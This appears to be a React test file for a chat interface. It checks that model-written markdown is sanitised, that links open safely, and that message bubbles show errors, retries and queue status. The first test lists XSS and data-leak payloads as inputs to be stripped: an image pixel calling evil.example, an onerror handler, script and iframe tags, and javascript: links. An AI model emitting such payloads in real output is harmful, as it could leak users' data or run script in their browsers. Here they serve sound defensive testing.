import { render, screen, waitFor } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { Bubble } from "./Bubble";
import Markdown from "./Markdown";
import { testWords as words } from "./testWords";

describe("markdown from a model", () => {
  it("has no pictures, scripts, frames or handlers", () => {
    const evil = [
      "![secret](https://evil.example/pixel.gif?who=me)",
      "<img src=x onerror=alert(1)>",
      "<iframe src='https://evil.example'></iframe>",
      "<script>alert(1)</script>",
      "[click](javascript:alert(1)) [data](data:text/html,x) [own](/api/session)",
    ].join("\n\n");

    const { container } = render(<Markdown text={evil} />);

    expect(container.querySelector("img, iframe, script, object, embed, form, a")).toBeNull();
    expect(container.innerHTML).not.toContain('onerror="');
    expect(container).toHaveTextContent("secret");
    expect(container).toHaveTextContent("click data own");
  });

  it("opens links safely elsewhere", () => {
    render(<Markdown text="[policy](https://example.org/a)" />);

    const link = screen.getByRole("link", { name: "policy" });
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it("renders tables and emphasis", () => {
    const { container } = render(
      <Markdown text={"You have **30 days**.\n\n| a | b |\n|---|---|\n| 1 | 2 |"} />,
    );

    expect(container.querySelector("strong")).toHaveTextContent("30 days");
    expect(container.querySelectorAll("td")).toHaveLength(2);
  });
});

describe("Bubble", () => {
  it("shows what a person wrote as written", () => {
    const { container } = render(
      <Bubble words={words} message={{ id: "1", role: "user", text: "**not bold** <b>" }} />,
    );

    expect(container.querySelector("strong, b")).toBeNull();
    expect(container).toHaveTextContent("**not bold** <b>");
  });

  it("says why a reply failed and offers to try again", async () => {
    const retry = vi.fn();
    render(
      <Bubble
        words={words}
        onRetry={retry}
        message={{
          id: "2",
          role: "assistant",
          text: "",
          status: "failed",
          error: { message: "The AI model is busy.", hint: "Wait a moment." },
        }}
      />,
    );

    expect(screen.getByText("The AI model is busy.")).toBeVisible();
    screen.getByRole("button", { name: words.retry }).click();
    await waitFor(() => expect(retry).toHaveBeenCalledOnce());
  });

  it("says what is at work, before the first word and after it, and not once the reply is there", () => {
    const doing = [{ kind: "look_up" as const, tool: "" }];
    const reply = { id: "3", role: "assistant" as const, text: "", status: "streaming" as const, doing };

    const { rerender, container } = render(<Bubble words={words} message={reply} />);
    expect(container).toHaveTextContent(words.lookingUp);
    expect(container).not.toHaveTextContent(words.thinking);

    rerender(<Bubble words={words} message={{ ...reply, text: "Let me see." }} />);
    expect(screen.getByRole("status")).toHaveTextContent(words.lookingUp);

    rerender(<Bubble words={words} message={{ ...reply, text: "Found.", status: "done" }} />);
    expect(container).not.toHaveTextContent(words.lookingUp);
  });

  it("says to everybody how many are before a question that waits, until its turn has come", () => {
    const wait = { kind: "wait" as const, tool: "" as const, ahead: 2, at_once: 1 };
    const reply = { id: "3", role: "assistant" as const, text: "", status: "streaming" as const };

    const { rerender } = render(<Bubble words={words} message={{ ...reply, doing: [wait] }} />);
    expect(screen.getByRole("status")).toHaveTextContent(/^2 before you: /);

    rerender(<Bubble words={words} message={{ ...reply, doing: [{ ...wait, ahead: 1 }] }} />);
    expect(screen.getByRole("status")).toHaveTextContent(/^1 before you: /);

    rerender(<Bubble words={words} message={{ ...reply, doing: [] }} />);
    expect(screen.queryByRole("status")).toBeNull();
  });
});
